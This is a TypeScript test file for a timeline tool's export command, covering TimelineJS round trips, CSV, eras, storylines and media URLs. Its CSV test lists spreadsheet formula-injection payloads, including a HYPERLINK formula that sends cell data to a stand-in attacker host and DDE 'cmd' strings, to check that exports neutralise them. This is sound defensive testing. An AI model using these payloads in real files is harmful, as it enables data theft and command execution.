/**
 * What `npm run export` writes, read as its readers read it: a TimelineJS slide prints each sentence once (every
 * file the tests have is checked by its round trip, tests/cli/timelinejs.test.ts; here what they lack), a
 * spreadsheet runs no formula from content, an era always has an end, storylines stay groups, media addresses carry
 * no tracking, and a bare address in a body is still one when the export is imported again.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { exportedEntries, toExport } from '../../src/core/export.ts';
import { loadContent } from '../../src/core/index.ts';
import { fromSpreadsheetCell, spreadsheetCell } from '../../src/core/spreadsheet.ts';
import type { TLTimeline } from '../../src/core/timelinejs.ts';
import { runScript, runScriptAsync } from '../helpers/cli.ts';
import { printedTwice, shownBlocks } from '../helpers/slides.ts';
import { contentTree, FIXTURES, PROJECT, tempDir } from '../helpers/trees.ts';

/** An empty project folder with a `content/` to import into. */
function emptyTree(): { root: string; content: string } {
  const root = tempDir('export-fidelity');
  const content = path.join(root, 'content');
  mkdirSync(content);
  return { root, content };
}

/** Imports `file` into a fresh tree and exports it again as TimelineJS. */
async function importedAndExported(file: string): Promise<{ timeline: TLTimeline; stderr: string }> {
  const { content } = emptyTree();
  const imported = await runScriptAsync('import', ['timelinejs', file], content);
  expect(imported.status, imported.stderr).toBe(0);
  const exported = await runScriptAsync('export', ['timelinejs'], content);
  expect(exported.status, exported.stderr).toBe(0);
  return { timeline: JSON.parse(exported.stdout) as TLTimeline, stderr: exported.stderr };
}

/** A timeline in Hebrew (right to left, abbreviations with gershayim) whose slides say the same thing in two places. */
const HEBREW = {
  title: { text: { headline: 'ציר זמן', text: '<p>ציר זמן</p>' } },
  events: [
    { start_date: { year: '1948', month: '5', day: '14' }, text: { headline: 'הכרזת העצמאות', text: 'הכרזת העצמאות' } },
    {
      start_date: { year: '1949' },
      text: { headline: 'בחירות', text: '<p>הבחירות הראשונות לכנסת נערכו בינואר. ארה"ב הכירה במדינה.</p>' },
    },
    { start_date: { year: '1950' }, text: { text: '<p>חוק השבות התקבל בכנסת. הוא מעניק זכות עלייה.</p>' } },
    { start_date: { year: '1951' }, media: { url: 'https://example.org/a.jpg', caption: 'כיתוב התמונה' } },
  ],
  eras: [
    { start_date: { year: '1948' }, end_date: { year: '1952' }, text: { headline: 'שנות הקמה', text: 'שנות הקמה' } },
  ],
};

describe('a TimelineJS slide exported', () => {
  it('prints each sentence once in Hebrew too, and imports back the same entries', async () => {
    const { root } = emptyTree();
    const file = path.join(root, 'hebrew.json');
    writeFileSync(file, JSON.stringify(HEBREW));
    const first = emptyTree();
    expect(runScript('import', ['timelinejs', file], first.content).status).toBe(0);
    const exported = path.join(first.root, 'exported.json');
    expect(runScript('export', ['timelinejs', '--out', exported], first.content).status).toBe(0);
    const timeline = JSON.parse(readFileSync(exported, 'utf8')) as TLTimeline;
    const slides = [timeline.title ?? {}, ...timeline.events, ...(timeline.eras ?? [])];
    expect(slides.flatMap((slide) => printedTwice(slide))).toEqual([]);
    const second = emptyTree();
    expect(runScript('import', ['timelinejs', exported], second.content).status).toBe(0);
    const entries = async (tree: { root: string }) =>
      (await loadContent('content', tree.root)).entries.map(({ id, title, summary, body, kind, media }) => ({
        ...{ id, title, summary, body, kind, media },
      }));
    expect(await entries(second)).toEqual(await entries(first));
  });

  it('keeps a summary that repeats the title, the body or the caption for an import, out of sight', async () => {
    const { timeline } = await importedAndExported(path.join(FIXTURES, 'timelinejs/my-own-timeline.csv'));
    const edith = timeline.events.find((slide) => slide.text?.headline?.startsWith('Edith Clarke'));
    expect(edith?.text?.text).toMatch(/^<p class="timeline-summary" hidden>Edith Clarke: Bucking the Trend<\/p>/);
    expect(shownBlocks(edith?.text?.text ?? '').join(' ')).not.toMatch(/Bucking the Trend/);
  });
});

/** A content tree with `entries` (file name → frontmatter and body) and `threads`. */
function treeWith(
  entries: Record<string, { frontmatter: Record<string, unknown>; body?: string }>,
  threads: { id: string; title: string }[] = [{ id: 'the-story', title: 'The story' }],
): { root: string; content: string } {
  const tree = contentTree();
  mkdirSync(path.join(tree.content, 'entries/more'), { recursive: true });
  writeFileSync(path.join(tree.content, 'threads.yaml'), stringify(threads));
  const defaults = { kind: 'event', threads: ['the-story'], sources: [{ note: 'Test.' }] };
  for (const [name, { frontmatter, body = '' }] of Object.entries(entries))
    writeFileSync(
      path.join(tree.content, 'entries/more', `${name}.md`),
      `---\n${stringify({ ...defaults, ...frontmatter })}---\n${body}\n`,
    );
  return tree;
}

describe('the CSV export', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1 in the middle\tof a line',
    '＝1+1',
  ];

  it('writes no cell a spreadsheet runs as a formula, and reads back as written', () => {
    const entries = Object.fromEntries(
      hostile.map((text, index) => [
        `hostile-${index}`,
        {
          frontmatter: {
            title: `${text}`,
            summary: text,
            date: index % 2 ? '-0043-03-15' : '2024-05-01',
            ...(index % 2 ? {} : { end: '2024-05-03' }),
            dateLabel: text,
          },
        },
      ]),
    );
    const { content } = treeWith(entries);
    const run = runScript('export', ['csv'], content);
    expect(run.status, run.stderr).toBe(0);
    const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[];
    const risky = rows.flatMap((row) =>
      Object.entries(row).filter(
        ([column, cell]) =>
          /^[=+\-@\t\r＝＋－＠]/u.test(cell) && !(column === 'date' && /^-\d{4}-\d\d-\d\d$/.test(cell)),
      ),
    );
    expect(risky).toEqual([]);
    const read = (row: Record<string, string> | undefined, column: string) => fromSpreadsheetCell(row?.[column] ?? '');
    for (const [index, text] of hostile.entries()) {
      const row = rows.find((item) => item['id'] === `hostile-${index}`);
      // Frontmatter text is trimmed: a tab in front is the content's, not the export's, to keep.
      const written = text.trim();
      expect([read(row, 'title'), read(row, 'summary'), read(row, 'date_text')]).toEqual([written, written, written]);
      // A BC date is a written date, never a formula: it goes out as it is.
      expect(row?.['date']).toBe(index % 2 ? '-0043-03-15' : '2024-05-01');
    }
  });

  it('leaves ordinary text and dates alone, and takes only its own quote away', () => {
    expect(spreadsheetCell('-0043-03-15', 'date')).toBe('-0043-03-15');
    expect(spreadsheetCell('-0043-03-15+cmd', 'date')).toBe("'-0043-03-15+cmd");
    expect(spreadsheetCell('-3499')).toBe("'-3499");
    expect(spreadsheetCell("It's fine")).toBe("It's fine");
    expect(fromSpreadsheetCell("'It's")).toBe("'It's");
    expect(fromSpreadsheetCell("'=1+1")).toBe('=1+1');
  });
});

describe('eras, storylines and media addresses in the TimelineJS export', () => {
  it('ends an era left open with the last entry before the next period, and says so', () => {
    const { content } = treeWith({
      'open-era': { frontmatter: { title: 'Open era', summary: 'It began.', date: '1990', kind: 'period' } },
      inside: { frontmatter: { title: 'Inside', summary: 'Within it.', date: '1994-06', end: '1995-02' } },
      'next-era': {
        frontmatter: { title: 'Next era', summary: 'Another.', date: '2000', end: '2005', kind: 'period' },
      },
      'last-era': { frontmatter: { title: 'Last era', summary: 'Still going.', date: '2030', kind: 'period' } },
    });
    const run = runScript('export', ['timelinejs'], content);
    expect(run.status, run.stderr).toBe(0);
    const timeline = JSON.parse(run.stdout) as TLTimeline;
    const era = (id: string) => timeline.eras?.find((slide) => slide.unique_id === id);
    expect(era('open-era')?.end_date).toEqual({ year: '1995', month: '2' });
    expect(era('next-era')?.end_date).toEqual({ year: '2005' });
    // Every era has an end, as TimelineJS requires; one with nothing after it goes as an event.
    expect(timeline.eras?.filter((slide) => !slide.end_date)).toEqual([]);
    expect(timeline.events.map((slide) => slide.unique_id)).toContain('last-era');
    expect(run.stderr).toMatch(/note: 1 period without an end \(open-era\) is exported as era, ending with the last/);
    expect(run.stderr).toMatch(
      /1 period without an end and with nothing after its start \(last-era\) is exported as event/,
    );
  });

  it('groups each slide by its own storyline, also where timelines were imported side by side', () => {
    const { content } = emptyTree();
    for (const name of ['houston.json', 'groups-eras.json'])
      expect(runScript('import', ['timelinejs', path.join(FIXTURES, 'timelinejs', name)], content).status).toBe(0);
    const run = runScript('export', ['timelinejs'], content);
    expect(run.status, run.stderr).toBe(0);
    const timeline = JSON.parse(run.stdout) as TLTimeline;
    const group = (headline: string) => timeline.events.find((slide) => slide.text?.headline === headline)?.group;
    expect(group('Augustus')).toBe('Groups &amp;amp; eras');
    expect(group('The Ides of March')).toBe('Politics');
    expect(group('A Musical Heritage')).toBe('Whitney Houston 1963 - 2012');
    expect(run.stderr).toMatch(/\b\d+ entr(y|ies) in more than one storyline/);
  });

  it('writes media addresses without tracking parameters, which stop TimelineJS loading a post', () => {
    const { content } = treeWith({
      tweet: {
        frontmatter: {
          title: 'A post',
          summary: 'Posted.',
          date: '2024-01-01',
          media: { url: 'https://twitter.com/ItsMeKitB/status/947659340864876544?ref_src=twsrc%5Etfw&s=20' },
        },
      },
      video: {
        frontmatter: {
          title: 'A video',
          summary: 'Filmed.',
          date: '2024-01-02',
          media: { url: 'https://www.youtube.com/watch?v=abc&t=30s&si=XyZ&utm_source=newsletter#top' },
        },
      },
    });
    const run = runScript('export', ['timelinejs'], content);
    expect(run.status, run.stderr).toBe(0);
    const urls = (JSON.parse(run.stdout) as TLTimeline).events.map((slide) => slide.media?.url);
    expect(urls).toContain('https://twitter.com/ItsMeKitB/status/947659340864876544');
    // YouTube's `t` is where the video starts: only tracking goes.
    expect(urls).toContain('https://www.youtube.com/watch?v=abc&t=30s#top');
  });
});

describe('a body exported to TimelineJS and imported again', () => {
  it('keeps a bare web address bare, a link GFM makes, not <https://…>', async () => {
    const body =
      'See https://example.org/a_b?x=1&y=2 and https://en.wikipedia.org/wiki/Ada_Lovelace.\n\n' +
      'A [named link](https://example.org/named) and (https://example.org/in-brackets) too.';
    const { content } = treeWith({
      links: { frontmatter: { title: 'Links', summary: 'Some links.', date: '2024-01-01' }, body },
    });
    const exported = path.join(path.dirname(content), 'exported.json');
    const run = runScript('export', ['timelinejs', '--out', exported], content);
    expect(run.status, run.stderr).toBe(0);
    const back = emptyTree();
    expect(runScript('import', ['timelinejs', exported], back.content).status).toBe(0);
    const model = await loadContent('content', back.root);
    expect(model.entries.find((entry) => entry.id === 'links')?.body.trim()).toBe(body);
  });
});

describe("a storyline's JSON export", () => {
  it('holds exactly the entries, people and topics of that storyline, in the timeline’s order', async () => {
    const model = await loadContent(path.join(PROJECT, 'content'), PROJECT);
    expect(model.threads.length).toBeGreaterThan(1);
    for (const thread of [...model.threads.map(({ id }) => id), 'no-such-storyline']) {
      const entries = model.entries.filter((entry) => entry.threads.includes(thread));
      expect(exportedEntries(model, thread)).toEqual(entries);
      const exported = toExport(model, () => '', { thread });
      expect(exported.entries.map(({ id }) => id)).toEqual(entries.map(({ id }) => id));
      expect(exported.people.map(({ id }) => id)).toEqual(
        model.people.filter(({ id }) => entries.some((entry) => entry.people.includes(id))).map(({ id }) => id),
      );
      expect(exported.topics.map(({ id }) => id)).toEqual(
        model.topics.filter(({ id }) => entries.some((entry) => entry.topics.includes(id))).map(({ id }) => id),
      );
    }
  });
});
